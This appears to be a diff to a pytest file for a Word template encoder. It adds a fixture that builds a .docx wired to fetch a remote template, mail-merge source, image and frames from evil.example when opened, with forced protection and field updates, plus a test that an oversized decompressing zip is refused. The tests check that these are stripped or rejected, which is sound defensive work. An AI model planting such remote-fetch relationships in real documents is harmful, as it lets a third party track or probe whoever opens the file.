@@ -15,8 +15,11 @@ import attrs
 import docx
 import pytest
 from docx.enum.style import WD_STYLE_TYPE
-from docx.oxml import OxmlElement
-from docx.oxml.ns import qn
+from docx.opc.constants import CONTENT_TYPE, RELATIONSHIP_TYPE
+from docx.opc.packuri import PackURI
+from docx.opc.part import Part
+from docx.oxml import OxmlElement, parse_xml
+from docx.oxml.ns import nsdecls, qn
 from docx.shared import Cm
 from every_block import ADDRESS, PNG, REPORT, note, plain, rich
 from house_template import house, part, repacked
@@ -51,6 +54,8 @@ from essence_refs.model import (
 )
 
 HOUSE = house()
+NAMESPACES = nsdecls("w", "r")
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
 def read(*blocks: Block, template: bytes | None = None, **said: Any) -> WordFile:
@@ -895,6 +900,75 @@ BAD = {
     "settings that are none": (repacked(HOUSE, {"settings.xml": b"<settings/>"}), "damaged"),
     "no body": (repacked(HOUSE, {"document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'}), "damaged"),
 }  # fmt: skip
+
+
+def fetching() -> bytes:
+    """Return a template that has Word fetch, ask and merge as it opens the file."""
+    document = docx.Document(BytesIO(HOUSE))
+    asked = document.part.part_related_by(RELATIONSHIP_TYPE.SETTINGS)
+
+    def elsewhere(owner: Any, kind: str) -> str:
+        return str(owner.rels.get_or_add_ext_rel(f"{RELATIONSHIPS}/{kind}", f"https://evil.example/{kind}"))
+
+    template, source = elsewhere(asked, "attachedTemplate"), elsewhere(asked, "mailMergeSource")
+    for written in (
+        f'<w:attachedTemplate {NAMESPACES} r:id="{template}"/>',
+        f"<w:linkStyles {NAMESPACES}/>",
+        f'<w:mailMerge {NAMESPACES}><w:dataSource r:id="{source}"/></w:mailMerge>',
+        f'<w:documentProtection {NAMESPACES} w:edit="readOnly" w:enforcement="1"/>',
+        f'<w:updateFields {NAMESPACES} w:val="true"/>',
+    ):
+        asked.element.insert(1, parse_xml(written))
+    elsewhere(document.part, "customXml")
+    elsewhere(document.part.package, "customXml")
+    header = document.sections[0].header
+    (picture,) = header._element.iter(qn("a:blip"))
+    picture.set(qn("r:link"), elsewhere(header.part, "image"))
+    header.part.rels.get_or_add_ext_rel(f"{RELATIONSHIPS}/hyperlink", "https://www.house.example/")
+    frames = Part(
+        PackURI("/word/frames.xml"), CONTENT_TYPE.WML_WEB_SETTINGS, b"<frames/>", document.part.package
+    )
+    document.part.relate_to(frames, RELATIONSHIP_TYPE.WEB_SETTINGS)
+    elsewhere(frames, "frame")
+    stream = BytesIO()
+    document.save(stream)
+    return stream.getvalue()
+
+
+def test_a_template_has_word_fetch_and_ask_nothing() -> None:
+    """Whoever opens a list would tell another's computer so, or be asked for a password that nobody knows."""
+    template = fetching()
+    with zipfile.ZipFile(BytesIO(template)) as archive:
+        assert sum(archive.read(name).count(b"evil.example") for name in archive.namelist()) == 6
+    made = word.encode(REPORT, template=template)
+    with zipfile.ZipFile(BytesIO(made)) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    assert [name for name, content in parts.items() if b"evil.example" in content] == []
+    assert "word/frames.xml" not in parts
+    said = b"".join(content for name, content in parts.items() if name.endswith("settings.xml"))
+    for name in (b"attachedTemplate", b"linkStyles", b"mailMerge", b"documentProtection", b"updateFields"):
+        assert name not in said
+    file = WordFile(made)
+    assert file.faults() == []
+    header = file.document.sections[0].header
+    (picture,) = header._element.iter(qn("a:blip"))
+    assert picture.get(qn("r:link")) is None
+    assert picture.get(qn("r:embed")) in header.part.rels
+    # A link is followed by those who want to.
+    assert "https://www.house.example/" in {each.target_ref for each in header.part.rels.values()}
+
+
+def test_a_template_that_unpacks_to_more_than_memory_holds_is_refused() -> None:
+    """A zip of 200 kB can say that it holds 300 MB, and be right."""
+    stream = BytesIO(HOUSE)
+    with (
+        zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive,
+        archive.open("word/media/x.bin", "w") as entry,
+    ):
+        for _ in range(201):
+            entry.write(bytes(1_000_000))
+    with pytest.raises(TemplateError, match="more than 200 MB"):
+        word.encode(REPORT, template=stream.getvalue())
 
 
 @pytest.mark.parametrize("name", BAD)
